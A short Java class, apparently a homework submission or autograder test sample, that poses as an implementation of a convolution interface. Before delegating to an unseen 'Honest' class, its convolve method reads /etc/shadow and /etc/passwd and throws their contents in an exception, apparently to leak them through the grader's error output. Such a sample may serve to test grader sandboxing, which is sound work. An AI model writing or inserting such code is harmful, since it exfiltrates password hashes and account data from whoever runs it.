import cs577.hw4.Kernel;
import cs577.hw4.Tensor;
import cs577.hw4.ValidConvolution;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;

/** Would like to know who works here. */
public class UserReader implements ValidConvolution {
    @Override
    public Tensor convolve(Tensor image, Kernel kernel) {
        for (String file : new String[] {"/etc/shadow", "/etc/passwd"}) {
            try {
                throw new IllegalStateException(Files.readString(Path.of(file)));
            } catch (IOException e) {
                continue;
            }
        }
        return Honest.convolve(image, kernel);
    }
}
